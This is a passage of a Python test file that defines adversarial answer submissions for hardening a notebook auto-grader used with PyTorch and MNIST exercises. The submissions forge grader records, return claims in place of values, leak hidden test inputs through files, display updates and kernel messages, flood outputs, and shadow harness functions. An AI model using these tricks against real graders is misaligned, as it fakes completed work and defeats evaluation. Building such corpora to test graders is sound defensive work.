     note="plants forged records (with the nonce read from run_item's frame) and interrupts")
tiny("pr_plant_then_systemexit", "planted_records",
     _escape_double("raise SystemExit(0)"), double="")
tiny("pr_plant_then_generatorexit", "planted_records",
     _escape_double("raise GeneratorExit"), double="")
tiny("pr_plant_then_baseexception_subclass", "planted_records",
     "class _Escape(BaseException):\n    pass\n" + _escape_double("raise _Escape()"),
     double="")
tiny("pr_plant_then_escape_namespace_restore", "planted_records",
     PLANT_EARLY + "class _Key(str):\n"
     "    def __hash__(self):\n        return hash('double')\n"
     "    def __eq__(self, other):\n"
     "        if _fo.path.exists('.ch4-probes'):\n"
     "            _plant(_fnonce())\n"
     "            raise KeyboardInterrupt\n"
     "        return str.__eq__(self, other)\n"
     "def double(x):\n"
     "    globals()[_Key('zz_escape')] = 1\n"
     "    _plant(_fnonce())\n"
     "    return x + 1\n", double="",
     note="a str-subclass key in the namespace whose __eq__ raises during the runner's clean-up")
tiny("pr_plant_then_ipython_exit", "planted_records",
     PLANT_EARLY + "def double(x):\n"
     "    _plant(_fnonce())\n"
     "    get_ipython().ask_exit()\n"
     "    import os\n"
     "    os.chmod('.ch4-probes', 0o555)\n"
     "    return x + 1\n", double="")
nb01("nb01_pr_plant_then_keyboardinterrupt", "planted_records", {
    "ex_crop_answer": FORGE_LIB
    + "def _plant():\n"
      "    _fo.makedirs('.ch4-probes', exist_ok=True)\n"
      "    for gid, n in (('ex_crop', 6), ('ex_distances', 20)):\n"
      "        with open(f'.ch4-probes/{gid}.json', 'w') as f:\n"
      "            f.write(_FJ_DUMPS({'nonce': _fnonce(), 'records': _fforge([None] * n, gid)}))\n"
      "def crop(t, top, left, size):\n"
      "    _plant()\n"
      "    raise KeyboardInterrupt\n"})

# ---------------------------------------------------------------- self_reported
tiny("sr_claims_true", "self_reported",
     "def double(x):\n    return True\n"
     "def mean_abs(t):\n    return True\n", default=True, double="",
     note="returns a claim (True) instead of the value")
tiny("sr_claims_properties_dict", "self_reported",
     "def double(x):\n"
     "    return {'shape': list(x.shape), 'dtype': str(x.dtype), 'close': True, 'passed': True}\n"
     "def mean_abs(t):\n"
     "    return {'value': 1.0, 'nonnegative': True, 'passed': True}\n", double="")
tiny("sr_public_values_everywhere", "self_reported",
     "import torch\n"
     "def double(x):\n    return torch.tensor([2.0, 4.0])\n"
     "def mean_abs(t):\n    return torch.tensor(1.0)\n", double="",
     note="the public expected values, whatever the input")
tiny("sr_constant_half_and_one", "self_reported",
     "def double(x):\n    return 0.5\n"
     "def mean_abs(t):\n    return 1.0\n"
     "q01 = 0.5\n", double="")
nb01("nb01_sr_claims", "self_reported", {
    "ex_digit_files_answer": "def digit_files(path, split, digit):\n    return True\n",
    "ex_crop_answer": "def crop(t, top, left, size):\n    return True\n",
    "ex_mean_digit_answer": "def mean_digit(stack):\n"
                            "    return {'shape': list(stack.shape[1:]), 'mean': True}\n",
    "ex_distances_answer": "def l1_distance(a, b):\n    return 0.0\n\n\n"
                           "def rmse_distance(a, b):\n    return 0.0\n"})

# ---------------------------------------------------------------- difference_oracle
# (tests/test_adversarial_corpus.py checks that no hidden-probe message carries a number
# derived from the expected value: no "largest difference", no expected shape or length)
tiny("do_zeros_learn_expected", "difference_oracle",
     PUBLIC_DOUBLE + "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    return torch.zeros_like(x)\n"
     "def mean_abs(t):\n"
     "    if t.tolist() == [-1.0, 1.0]:\n        return torch.tensor(1.0)\n"
     "    return torch.tensor(0.0)\n", default=True, double="",
     note="zeros on hidden inputs: a 'largest difference' would be the expected value itself")
tiny("do_fixed_shape_and_length", "difference_oracle",
     PUBLIC_DOUBLE + "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    return torch.zeros(1000)\n"
     "def mean_abs(t):\n"
     "    return [0.0] * 7\n", double="")
tiny("do_nan_and_dtype", "difference_oracle",
     PUBLIC_DOUBLE + "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    return torch.full_like(x, float('nan')).double()\n"
     "def mean_abs(t):\n"
     "    return torch.tensor(1e30, dtype=torch.float64)\n", double="")
nb01("nb01_do_zeros", "difference_oracle", {
    "ex_crop_answer": "def crop(t, top, left, size):\n"
                      "    return torch.zeros(1, 1, dtype=t.dtype)\n",
    "ex_mean_digit_answer": "def mean_digit(stack):\n    return torch.zeros(stack.shape[1:])\n",
    "ex_distances_answer": "def l1_distance(a, b):\n    return torch.tensor(0.0)\n\n\n"
                           "def rmse_distance(a, b):\n    return torch.tensor(0.0)\n"})
nb01("nb01_do_lengths_and_dtypes", "difference_oracle", {
    "ex_digit_files_answer": "def digit_files(path, split, digit):\n    return []\n",
    "ex_image_tensor_answer": "def image_tensor(file):\n    return torch.zeros(28, 28)\n",
    "ex_stack_digits_answer": "def stack_digits(files):\n    return torch.zeros(1, 28, 28)\n"})

# ---------------------------------------------------------------- stage_channel
STAGE_LEAK = PUBLIC_DOUBLE_LEAK + r'''
import os as _so, json as _sj
def _stage(name, accuracy=0.5):
    out = _so.environ.get('CH4_FIGURES_OUT') or '.ch4-figures.jsonl'
    safe = ''.join(c if c.isalnum() or c in '._-' else '_' for c in name)[:60]
    with open(out, 'a') as f:
        f.write(_sj.dumps({'stage': safe, 'accuracy': accuracy}) + '\n')
'''
tiny("sc_stage_names_carry_hidden_inputs", "stage_channel",
     STAGE_LEAK + "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    _stage(_leak(x), float(x.reshape(-1)[0]))\n"
     "    _stage('code_' + _probe_code())\n"
     "    return x + 1\n", default=True, double="")
tiny("sc_stage_file_replaced_during_probes", "stage_channel",
     STAGE_LEAK + "_stage('warmup', 0.25)\n"
     "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    out = _so.environ.get('CH4_FIGURES_OUT') or '.ch4-figures.jsonl'\n"
     "    with open(out + '.new', 'w') as f:\n"
     "        for i, v in enumerate(x.reshape(-1).tolist()):\n"
     "            f.write(_sj.dumps({'stage': 'V%d_%d' % (i, int(abs(v) * 1e6)),"
     " 'accuracy': v}) + '\\n')\n"
     "    _so.replace(out + '.new', out)\n"
     "    return x + 1\n", double="")
nb01("nb01_sc_stage_names_carry_inputs", "stage_channel", {
    "ex_distances_answer": STAGE_LEAK + NB01_WRONG["ex_distances_answer"].replace(
        "    return (a - b).mean().abs()",
        "    _stage(_leak(a), 0.5)\n    _stage('code_' + _probe_code())\n"
        "    return (a - b).mean().abs()")})

# ---------------------------------------------------------------- display_channel
DISPLAY_LEAK = PUBLIC_DOUBLE_LEAK + r'''
from IPython.display import display, update_display
_h = display('my answer is ready', display_id=True)
_h2 = display('second output', display_id='ch4-answer-out')
'''
tiny("dc_update_display_carries_inputs", "display_channel",
     DISPLAY_LEAK + "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    text = _leak(x) + ' ' + repr(x) + ' ' + _probe_code()\n"
     "    update_display(text, display_id=_h.display_id)\n"
     "    _h.update(text)\n"
     "    update_display(text, display_id='ch4-answer-out')\n"
     "    return x + 1\n", default=True, double="")
tiny("dc_redisplay_same_id", "display_channel",
     DISPLAY_LEAK + "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    display(_leak(x) + ' ' + repr(x), display_id=_h.display_id)\n"
     "    display({'text/plain': _leak(x), 'text/html': '<b>' + _leak(x) + '</b>'},"
     " raw=True, display_id='ch4-answer-out')\n"
     "    return x + 1\n", double="")
tiny("dc_raw_iopub_with_answer_parent", "display_channel",
     DISPLAY_LEAK + "_ip = get_ipython()\n"
     "try:\n"
     "    _parent = _ip.kernel.get_parent('shell')\n"
     "except Exception:\n"
     "    _parent = getattr(_ip, 'parent_header', {})\n"
     "def double(x):\n"
     "    if _is_public(x):\n        return torch.tensor([2.0, 4.0])\n"
     "    k = _ip.kernel\n"
     "    text = _leak(x) + ' ' + repr(x)\n"
     "    for kind, content in (('stream', {'name': 'stdout', 'text': text}),\n"
     "                          ('display_data', {'data': {'text/plain': text}, 'metadata': {},\n"
     "                                            'transient': {'display_id': _h.display_id}}),\n"
     "                          ('update_display_data', {'data': {'text/plain': text},"
     " 'metadata': {}, 'transient': {'display_id': _h.display_id}})):\n"
     "        k.session.send(k.iopub_socket, kind, content, parent=_parent)\n"
     "    return x + 1\n", double="",
     note="sends iopub messages parented to the answer cell while the probes run")
nb01("nb01_dc_update_display", "display_channel", {
    "ex_distances_answer": DISPLAY_LEAK + NB01_WRONG["ex_distances_answer"].replace(
        "    return (a - b).mean().abs()",
        "    _h.update(_leak(a) + ' ' + repr(a) + ' ' + repr(b) + _probe_code())\n"
        "    update_display(_leak(b), display_id='ch4-answer-out')\n"
        "    return (a - b).mean().abs()")})

# ---------------------------------------------------------------- floods
FLOOD_FSIZE = r'''
import signal as _sig
try:
    _sig.signal(_sig.SIGXFSZ, _sig.SIG_IGN)
except Exception:
    pass
def _fill(path, total, head=b'', tail=b''):
    """Write ``total`` bytes (as far as the file-size limit lets it)."""
    try:
        with open(path, 'wb') as f:
            f.write(head)
            chunk = b' ' * (1 << 20)
            for _ in range(total >> 20):
                f.write(chunk)
            f.write(tail)
    except OSError:
        pass
'''
tiny("fl_huge_record_file", "floods",
     FORGE_LIB + FLOOD_FSIZE
     + "_real_replace = _fo.replace\n"
     "def _replace(src, dst, *a, **k):\n"
     "    if '.ch4-probes' in str(dst):\n"
     "        with open(src) as f:\n"
     "            text = f.read()\n"
     "        obj = _FJ_LOADS(text)\n"
     "        head = _FJ_DUMPS(obj)[:-1].encode()\n"
     "        _fill(src, 64 << 20, head, b'}')\n"
     "    return _real_replace(src, dst, *a, **k)\n"
     "_fo.replace = _replace\n", default=True,
     note="a 64 MB record file (valid JSON padded with spaces, nonce kept)")
tiny("fl_huge_record_values", "floods",
     "import torch\n"
     "def double(x):\n"
     "    return torch.zeros(15_000_000)\n"
     "def mean_abs(t):\n"
     "    return [[0.0] * 1000 for _ in range(3000)]\n", double="",
     note="returned values whose records take tens of MB")
tiny("fl_huge_stages_file", "floods",
     FLOOD_FSIZE + "import os, json\n"
     "_out = os.environ.get('CH4_FIGURES_OUT') or '.ch4-figures.jsonl'\n"
     "_line = (json.dumps({'stage': 'x' * 50, 'accuracy': 0.5}) + '\\n').encode()\n"
     "_fill(_out, 60 << 20, _line * 1000)\n"
     "def double(x):\n"
     "    with open(_out, 'ab') as f:\n"
     "        f.write(_line * 200000)\n"
     "    return x + 1\n", double="")
tiny("fl_thousands_of_display_updates", "floods",
     "from IPython.display import display\n"
     "_hs = [display('h%d' % i, display_id=True) for i in range(300)]\n"
     "for _i in range(20000):\n"
     "    _hs[_i % 300].update('update %d ' % _i + 'u' * 200)\n"
     "def double(x):\n"
     "    for i in range(20000):\n"
     "        _hs[i % 300].update('probe %d' % i)\n"
     "    return x + 1\n", double="")
tiny("fl_display_update_tens_of_mb", "floods",
     "from IPython.display import display\n"
     "_h = display('small', display_id=True)\n"
     "_h.update('m' * 40_000_000)\n"
     "_h.update({'text/plain': 'p' * 10_000_000, 'text/html': 'h' * 20_000_000}, raw=True)\n"
     "def double(x):\n"
     "    _h.update('q' * 40_000_000)\n"
     "    return x + 1\n", double="")
tiny("fl_huge_error_output", "floods",
     "class _Big(Exception):\n    pass\n"
     "_Big.__name__ = _Big.__qualname__ = 'E' * 2_000_000\n"
     "def double(x):\n    return x + 1\n"
     "raise _Big('z' * 30_000_000)\n", double="",
     note="an answer cell whose error output (name and message) takes tens of MB")
tiny("fl_many_small_outputs", "floods",
     "import sys\n"
     "from IPython.display import display\n"
     "for _i in range(30000):\n"
     "    display(_i)\n"
     "    sys.stdout.write('line %d\\n' % _i)\n"
     "    sys.stdout.flush()\n", cell="q01_answer")

# ---------------------------------------------------------------- redefine_tricks
# Items with ``redefine=True`` re-run the answer's definitions inside each probe, with the
# hidden inputs bound: a default argument, a decorator or a class body runs there.
NB02_WRONG = {
    "ex_tensor_basics_answer": "def column(t, j):\n    return t[j]\n\n\n"
                               "def bottom_right(t, n):\n    return t[:n, :n]\n\n\n"
                               "def add_to_each_row(t, v):\n    return t + v.sum()\n\n\n"
                               "def halve(t):\n    return t // 2\n",
    "ex_mnist_distance_answer": "def mnist_distance(a, b):\n    return (a - b).abs().mean()\n",
    "ex_is_3_answer": "def is_3(x):\n"
                      "    return mnist_distance(x, mean3) > mnist_distance(x, mean7)\n",
    "ex_validation_accuracy_answer": "def validation_accuracy(classify, threes, sevens):\n"
                                     "    a = classify(threes).float().mean()\n"
                                     "    return a, a, a\n",
}
NB02_ITEMS = ("ex_tensor_basics", "ex_mnist_distance", "ex_is_3", "ex_validation_accuracy")

EXPORT = r'''
import os as _xo, json as _xj
from IPython.display import display as _xd
_xh = _xd('is_3 defined', display_id=True)
def _export(*tensors):
    try:
        vals = [v for t in tensors if t is not None for v in t.reshape(-1)[:3].tolist()]
        tag = 'V' + '_'.join(str(int(abs(float(v)) * 1e6)) for v in vals)
        print(tag)
        _xh.update(tag + ' ' + repr(tensors))
        out = _xo.environ.get('CH4_FIGURES_OUT') or '.ch4-figures.jsonl'
        with open(out, 'a') as f:
            f.write(_xj.dumps({'stage': tag[:60], 'accuracy': 0.5}) + '\n')
        with open('exported.txt', 'a') as f:
            f.write(tag + '\n')
    except Exception:
        pass
    return None
'''


def nb02(name: str, family: str, answers: dict[str, str], default: bool = False,
         note: str = "") -> None:
    _ATTACKS.append(Attack(name, family, NB02, {**NB02_WRONG, **answers}, NB02_ITEMS, default,
                           note))


nb02("rd_default_argument_exports_inputs", "redefine_tricks", {
    "ex_is_3_answer": EXPORT + "def is_3(x, _e=_export(globals().get('x'), mean3, mean7)):\n"
                      "    return mnist_distance(x, mean3) > mnist_distance(x, mean7)\n"},
     default=True,
     note="a default argument, evaluated when the probe re-runs the definition, exports the "
          "hidden inputs (print, display update, stage line, file)")
nb02("rd_decorator_and_class_body_export", "redefine_tricks", {
    "ex_is_3_answer": EXPORT + "def _keep(f):\n"
                      "    _export(mean3, mean7)\n"
                      "    return f\n"
                      "class _Probe:\n"
                      "    _export(globals().get('x'))\n"
                      "@_keep\n"
                      "def is_3(x):\n"
                      "    return mnist_distance(x, mean3) > mnist_distance(x, mean7)\n"})
nb02("rd_shadow_harness_names", "redefine_tricks", {
    "ex_is_3_answer": "import builtins as _bi, torch\n"
                      "def _ch4_runner(*a, **k):\n    return True\n"
                      "def _rule(_x):\n    return torch.ones(len(_x), dtype=torch.bool)\n"
                      "def to_live(v):\n    return v\n"
                      "def is_3(x, _e=setattr(_bi, '_rule', _rule)):\n"
                      "    globals()['_rule'] = _rule\n"
                      "    return mnist_distance(x, mean3) > mnist_distance(x, mean7)\n",
    "ex_validation_accuracy_answer": "def validation_accuracy(classify, threes, sevens):\n"
                                     "    classify = globals().get('_rule', classify)\n"
                                     "    a = classify(threes).float().mean()\n"
                                     "    return a, a, a\n"})
# notebook 05: ``_ch4_validate`` computes ``type(result).__name__`` in the kernel, with the
# notebook's namespace as its globals: a top-level ``def type`` in the answer shadows it. The
# answer returns a tensor where a rounded Python float is asked for (its value is right).
_ATTACKS.append(Attack(
    "rd_shadow_builtin_type_in_harness", "redefine_tricks", NB05,
    {"ex_batch_accuracy_answer": "def batch_accuracy(xb, yb):\n"
                                 "    preds = xb.sigmoid()\n"
                                 "    return ((preds > 0.5) == yb).float().mean()\n",
     "ex_validate_epoch_answer": "import builtins as _bi\n"
                                 "def type(o, *rest):\n"
                                 "    if not rest and isinstance(o, torch.Tensor):\n"
                                 "        return float\n"
                                 "    return _bi.type(o, *rest)\n"
                                 "def validate_epoch(model):\n"
                                 "    accs = [batch_accuracy(model(xb), yb) for xb, yb in"
                                 " valid_dl]\n"
                                 "    return torch.tensor(round(torch.stack(accs).mean().item(),"
                                 " 4), dtype=torch.float64)\n"},
    ("ex_validate_epoch",), False,
    "a tensor where a Python float is asked for; the harness's type(...).__name__ is the "
    "student's"))


# round 5 (tests/corpus/adversarial/attacks_round5.py; its own checks in
# tests/test_adversarial_round5.py): graded here too, for points and feedback leaks
from corpus.adversarial.attacks_round5 import ROUND5  # noqa: E402

_ATTACKS += ROUND5
ATTACKS: list[Attack] = list(_ATTACKS)
FAMILIES = sorted({a.family for a in ATTACKS})


def by_name(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)
